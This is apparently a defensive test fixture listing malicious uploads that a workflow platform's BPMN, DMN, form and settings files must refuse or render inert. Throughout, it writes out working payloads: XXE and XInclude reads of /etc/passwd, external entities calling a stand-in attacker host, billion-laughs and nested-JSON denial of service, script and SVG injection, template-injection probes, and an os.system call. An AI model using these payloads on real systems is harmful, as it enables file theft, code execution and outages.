"""Files of a draft by somebody who means harm: each is refused in a sentence, or shown and does nothing."""

import json
from pathlib import Path
from typing import Any

ROOT = Path(__file__).parents[2]
HANDLING = "processes/handle_ticket.bpmn"
TABLE = "processes/priority.dmn"
FORM = "forms/inform.json"
SETTINGS = "processes/settings.json"
RUN = "window.__ran=1"
SCRIPT = f"<script>{RUN}</script>"
IMAGE = f'<img src=x onerror="{RUN}">'
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script></svg>'
ELSEWHERE = "https://jahat.contoh.test"
Attack = tuple[str, bytes]


def shipped(path: str) -> str:
    return (ROOT / path).read_text()


def _changed(path: str, before: str, after: str) -> Attack:
    text = shipped(path)
    assert before in text
    return path, text.replace(before, after, 1).encode()


def _attribute(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")


def _laughs(path: str) -> Attack:
    levels = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    head, _, rest = shipped(path).partition("?>")
    return path, f'{head}?><!DOCTYPE d [<!ENTITY l0 "tawa">{levels}]>{rest}'.encode().replace(
        b"<text>", b"<text>&l9;", 1
    )


def _reaching(path: str, entity: str) -> Attack:
    head, _, rest = shipped(path).partition("?>")
    return path, f"{head}?><!DOCTYPE d [<!ENTITY x {entity}>]>{rest}".encode()


def _form(*components: dict[str, Any], **more: Any) -> Attack:
    form = json.loads(shipped(FORM))
    form["components"] += components
    return FORM, json.dumps({**form, **more}).encode()


def _text(body: str) -> Attack:
    settings = json.loads(shipped(SETTINGS))
    name = next(iter(settings["messages"]))
    settings["messages"][name]["body"] = body
    return SETTINGS, json.dumps(settings).encode()


REFUSED: dict[str, Attack] = {
    "million laughs in a diagram": _laughs(HANDLING),
    "million laughs in a table": _laughs(TABLE),
    "a file of the server": _reaching(HANDLING, 'SYSTEM "file:///etc/passwd"'),
    "a file of the server in a table": _reaching(TABLE, 'SYSTEM "file:///etc/passwd"'),
    "an address of another machine": _reaching(HANDLING, f'SYSTEM "{ELSEWHERE}/x"'),
    "a parameter entity": (HANDLING, f'<!DOCTYPE d [<!ENTITY % p SYSTEM "{ELSEWHERE}/p"> %p;]><d/>'.encode()),
    "xinclude": _changed(
        HANDLING,
        "</bpmn:process>",
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
        "</bpmn:process>",
    ),
    "a diagram that is a picture": (HANDLING, SVG.encode()),
    "a diagram that is a page": (HANDLING, f"<html><body>{SCRIPT}</body></html>".encode()),
    "a script in the process": _changed(
        HANDLING,
        "</bpmn:process>",
        f'<bpmn:scriptTask id="s" scriptFormat="javascript"><bpmn:script>{RUN}</bpmn:script></bpmn:scriptTask>'
        "</bpmn:process>",
    ),
    "html in a form": _form({"type": "html", "id": "h", "content": SCRIPT + IMAGE}),
    "a frame in a form": _form({"type": "iframe", "id": "i", "url": f"{ELSEWHERE}/frame"}),
    "a picture in a form": _form({"type": "image", "id": "g", "source": f"{ELSEWHERE}/picture.png"}),
    "a table from elsewhere": _form({"type": "documentPreview", "id": "d", "dataSource": f"={ELSEWHERE}"}),
    "a form nested without end": (FORM, b'{"components":' + b"[" * 50_000 + b"]" * 50_000 + b"}"),
    "settings nested without end": (SETTINGS, b'{"a":' * 50_000 + b"1" + b"}" * 50_000),
    "a template that calculates": _text("{{ 7*7 }}"),
    "a template that walks": _text("{{ number.__class__.__mro__ }} {{ ''.__class__ }}"),
    "a template with a filter": _text("{{ number|attr('__class__') }}"),
    "a template with logic": _text("{% for x in range(9) %}{{ x }}{% endfor %}"),
    "a template that includes": _text("{% include '/etc/passwd' %}"),
    "a condition that never ends": _changed(
        HANDLING, 'decision = "ask"', "count(for a in 1..9999, b in 1..9999, c in 1..9999 return a) = 1"
    ),
    "a condition of python": _changed(HANDLING, 'decision = "ask"', "__import__('os').system('id') = 0"),
    "a table of python": _changed(TABLE, '"urgent"', "open('/etc/passwd').read()"),
}
INERT: dict[str, Attack] = {
    "a script for a name": _changed(HANDLING, 'name="Tangani tiket"', f'name="{_attribute(SCRIPT + IMAGE)}"'),
    "a picture for a name": _changed(HANDLING, 'name="Selesaikan masalah"', f'name="{_attribute(SVG)}"'),
    "a script for an explanation": _changed(
        "processes/watch_sla.bpmn", "<bpmn:documentation>", f"<bpmn:documentation><![CDATA[{SCRIPT}{IMAGE}]]>"
    ),
    "a script for a label": _form({"type": "textfield", "id": "t", "key": "more", "label": SCRIPT + IMAGE}),
    "a script for a hint": _form(
        {"type": "textfield", "id": "t", "key": "more", "label": "Lain", "description": SCRIPT + IMAGE}
    ),
    "a template for a label": _form({"type": "textfield", "id": "t", "key": "more", "label": "{{ 7*7 }}"}),
    "a script in a text of mail": _text(f"{SCRIPT}{IMAGE} javascript:{RUN}"),
    "a note": ("processes/catatan.md", f"{SCRIPT}\n{IMAGE}\n[x](javascript:{RUN})".encode()),
}
